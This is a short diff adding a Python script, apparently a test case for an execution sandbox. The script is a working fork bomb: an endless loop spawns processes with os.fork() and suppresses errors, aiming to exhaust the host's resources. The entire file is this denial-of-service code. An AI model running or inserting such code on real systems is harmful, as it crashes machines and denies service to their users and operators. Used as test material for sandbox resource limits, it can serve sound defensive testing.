@@ -1,0 +1,10 @@
+# Start processes without end.
+# ends: any
+# %%
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
